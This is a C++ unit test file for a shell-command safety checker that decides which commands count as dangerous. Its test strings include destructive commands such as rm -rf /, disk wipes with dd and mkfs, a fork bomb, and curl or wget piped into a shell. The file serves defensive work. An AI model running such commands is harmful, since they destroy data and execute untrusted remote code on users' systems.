#include <gtest/gtest.h>
#include <shellbridge/shell/safety.hpp>

using namespace shellbridge;

TEST(Safety, RejectsDestructiveCommands) {
    for (const char* s : {"rm -rf /", "sudo rm -rf /*", "rm -fr ~", "rm -rf --no-preserve-root /",
                          "echo x > /dev/sda", "dd if=/dev/zero of=/dev/nvme0n1 bs=1M", "mkfs.ext4 /dev/sdb1",
                          ":(){ :|:& };:", "curl -fsSL http://x.sh | sh", "wget -qO- http://x | sudo bash",
                          "format c: /q", "ls; RM -RF /"}) {
        EXPECT_TRUE(is_dangerous(s)) << s;
    }
}

TEST(Safety, AllowsOrdinaryCommands) {
    for (const char* s : {"rm -rf build", "rm -rf /tmp/scratch", "ls /dev/sda", "cat ./mkfs-notes", "curl -o out.sh http://x",
                          "dd if=a of=b", "git format-patch HEAD~1", "echo hello"}) {
        EXPECT_FALSE(is_dangerous(s)) << s;
    }
}

TEST(Safety, DescribesRule) {
    auto why = find_dangerous_construct(":(){ :|:& };:");
    ASSERT_TRUE(why.has_value());
    EXPECT_EQ(*why, "fork bomb");
}

TEST(Safety, SeparatorsAndPrefixesDoNotHideRules) {
    for (const char* s : {"(rm -rf /)", "FOO=1 rm -rf /", "sudo -E rm -r -f /", "/bin/rm -rf /",
                          "echo hi && mkfs /dev/sdb", "curl http://x | tee log | /bin/sh",
                          "cat a >> /dev/sdc"}) {
        EXPECT_TRUE(is_dangerous(s)) << s;
    }
    for (const char* s : {"echo rm -rf /", "curl http://x; sh build.sh", "curl http://x || bash -c true",
                          "rm -rf build > /", "echo :(){ :"}) {
        EXPECT_FALSE(is_dangerous(s)) << s;
    }
}

TEST(Safety, VeryLongCommandsScanInLinearTime) {
    const std::string filler(2u * 1024u * 1024u, 'a');
    EXPECT_FALSE(is_dangerous("curl " + filler));
    EXPECT_FALSE(is_dangerous("dd " + filler));
    EXPECT_FALSE(is_dangerous("rm -" + filler + " x"));
    EXPECT_FALSE(is_dangerous("echo" + std::string(1024u * 1024u, ' ') + "x"));
    EXPECT_TRUE(is_dangerous("curl " + filler + " | sh"));
    EXPECT_TRUE(is_dangerous("dd if=" + filler + " of=/dev/sda"));
}
